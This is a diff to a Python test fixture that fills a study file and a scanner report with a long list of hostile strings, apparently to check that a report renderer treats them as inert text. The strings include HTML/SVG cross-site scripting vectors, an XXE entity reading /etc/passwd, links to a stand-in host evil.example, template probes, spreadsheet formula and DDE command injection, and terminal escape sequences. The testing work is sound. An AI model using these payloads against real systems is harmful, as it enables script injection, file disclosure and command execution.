@@ -2,6 +2,7 @@
 
 import gzip
 import json
+import re
 import shutil
 from pathlib import Path
 
@@ -24,6 +25,98 @@ NAMES = (
     ".",
     " ",
 )
+MATH = "$\\\\href{https://evil.example/t}{x}$"
+
+PAYLOADS = (
+    *NAMES,
+    # HTML and SVG
+    "<svg onload=alert(1)>",
+    "<svg><animate onbegin=alert(1) attributeName=x>",
+    "<iframe src=javascript:alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=data:text/html,<script>alert(1)</script>>",
+    "<embed src=https://evil.example/e>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
+    "<link rel=stylesheet href=https://evil.example/s.css>",
+    "<style>@import 'https://evil.example/i.css'; * { display: none }</style>",
+    "<b style=background:url(https://evil.example/b)>",
+    "<details open ontoggle=alert(1)>",
+    "<body onload=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video src=https://evil.example/v onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<form action=https://evil.example/><button>x</button></form>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='https://evil.example/a'>x</a>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<plaintext>",
+    "<textarea><script>alert(1)</script>",
+    "</td></tr></table><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "</style><img src=x onerror=alert(1)>",
+    "</title><script>alert(1)</script>",
+    "<!-- --><img src=x onerror=alert(1)><!--",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    '" onmouseover="alert(1)" x="',
+    "' onmouseover='alert(1)' x='",
+    "<img src=https://evil.example/p.png>",
+    "<script src=https://evil.example/s.js></script>",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    # Markdown
+    "[x](javascript:alert(1))",
+    "[x](https://evil.example/l)",
+    "![x](https://evil.example/i.png)",
+    "![x][r]\n\n[r]: https://evil.example/r.png",
+    "<https://evil.example/auto>",
+    "https://evil.example/bare",
+    "www.evil.example",
+    "mallory@evil.example",
+    "| a | b |\n|---|---|\n| c | d |",
+    "a|b\\|c",
+    "```\ncode\n```",
+    "``` `` `",
+    "# heading\n---\n> quote\n- list",
+    "<!-- base-image-gate -->",
+    "@everyone #1 evil/repo#2 :bomb:",
+    "**bold** ~~gone~~ _em_ [ ] [x]",
+    "\\[ \\* \\` &#124; &#x60;",
+    # MathJax
+    "$\\href{https://evil.example/m}{x}$",
+    "\\(\\href{javascript:alert(1)}{x}\\)",
+    "\\[\\require{html}\\style{color:red}{x}\\]",
+    "\\begin{equation}\\href{https://evil.example/e}{x}\\end{equation}",
+    "$$\\class{x}{\\unicode{x3c}}$$",
+    # templates, names and formulas
+    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(x)s",
+    "__proto__",
+    "constructor",
+    "NaN",
+    '=HYPERLINK("https://evil.example/h","x")',
+    "-2+3+cmd|'/c calc'!A1",
+    "\t=1+1",
+    "\uff1d1+1",
+    "\uff0b1 \uff0d1 \uff201",
+    "x;=1+1",
+    '";=1+1;"',
+    # terminals and letters that nobody sees
+    "\x1b]8;;https://evil.example/t\x07x\x1b]8;;\x07",
+    "\x1b[2J\x1b[H\x9b31m",
+    "\x1b]0;title\x1b\\ \x08\x08 \r",
+    "\u200b\u200d\u2060\ufeffzero",
+    "\u2066\u2067\u2069\u061c",
+    "\u2028\u2029\x85",
+    "\x00\x01",
+    "Z\u0351\u036f" * 50,
+    "\U000e0041\U000e0042",
+)
+"""What reports, images, studies, advisories and scores may hold as text, and nothing acts upon."""
+
 HOSTILE = (
     *(program(f"app/{name}", 2_000_000, layer=1, package=name) for name in NAMES),
     *(program(f"bin/{name}", 3_000_000, version=name) for name in NAMES),
@@ -60,7 +153,12 @@ def spoil(data: Path) -> Path:
     _spoil_report(evidence / paths.REPORT)
     text = (study / "study.toml").read_text()
     for name in ("title", "question"):
-        text = text.replace(f'{name} = "', f'{name} = "{NAMES[0]}{NAMES[1]}', 1)
+        text = text.replace(f'{name} = "', f'{name} = "{NAMES[0]}{NAMES[1]}{MATH}', 1)
+    # JSON's strings are TOML's as well.
+    about = json.dumps("\n\n".join(PAYLOADS), ensure_ascii=False).replace("\x7f", "")
+    text = re.sub(
+        r'^about = """.*?"""', lambda _: f"about = {about}", text, count=1, flags=re.M | re.S
+    )
     (study / "study.toml").write_text(text)
     return data
 
@@ -68,12 +166,17 @@ def spoil(data: Path) -> Path:
 def _spoil_report(path: Path) -> None:
     """Give every package, version and fix of a report one of the names."""
     report = json.loads(gzip.decompress(path.read_bytes()))
-    findings = [v for result in report["Results"] for v in result.get("Vulnerabilities", [])]
+    [result] = [result for result in report["Results"] if result.get("Vulnerabilities")]
+    first = result["Vulnerabilities"][0]
+    result["Vulnerabilities"] = findings = [{**first} for _ in PAYLOADS]
     packages = [p for result in report["Results"] for p in result.get("Packages", [])]
     for number, finding in enumerate(findings):
-        name = NAMES[number % len(NAMES)]
-        finding.update(PkgName=name, InstalledVersion=name, FixedVersion=name)
+        name = PAYLOADS[number % len(PAYLOADS)]
+        finding.update(PkgName=name, InstalledVersion=name, FixedVersion=name, PkgPath=name)
+        finding["PkgIdentifier"] = {"PURL": name}
         finding["VulnerabilityID"] = f"CVE-{number}-{name}"
     for number, package in enumerate(packages):
-        package.update(Name=NAMES[number % len(NAMES)], Version=NAMES[-number % len(NAMES)])
+        package.update(
+            Name=PAYLOADS[number % len(PAYLOADS)], Version=PAYLOADS[-number % len(PAYLOADS)]
+        )
     path.write_bytes(gzip.compress(json.dumps(report).encode()))
